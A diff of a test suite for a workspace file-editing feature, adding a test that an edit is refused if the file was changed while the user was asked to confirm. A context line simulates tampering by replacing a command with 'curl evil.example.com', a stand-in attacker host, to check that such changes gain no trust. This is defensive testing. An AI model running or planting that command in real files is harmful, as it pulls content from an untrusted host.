@@ -103,6 +103,17 @@ describe('a change of the workspace in the window', () => {
     expect(text()).not.toContain('protected')
   })
 
+  it('is refused where the file became another one while the person was asked', async () => {
+    const { file, trust, ports, text } = aFile()
+    const confirm = async () => {
+      writeFileSync(file, TEXT.replace('the site', 'our site'))
+      return true
+    }
+    const changed = await changeFile({ file, edits: SHIP, seen: textId(TEXT) }, { ...ports, confirm }, trust)
+    expect(changed).toMatchObject({ problem: { sentence: expect.stringContaining('changed elsewhere') } })
+    expect(text()).toContain('our site')
+  })
+
   it('brings no trust to what somebody else changed beside it', async () => {
     const { file, trust, ports, isTrusted, text } = aFile()
     writeFileSync(file, TEXT.replace('"./ship"', '"curl evil.example.com"'))
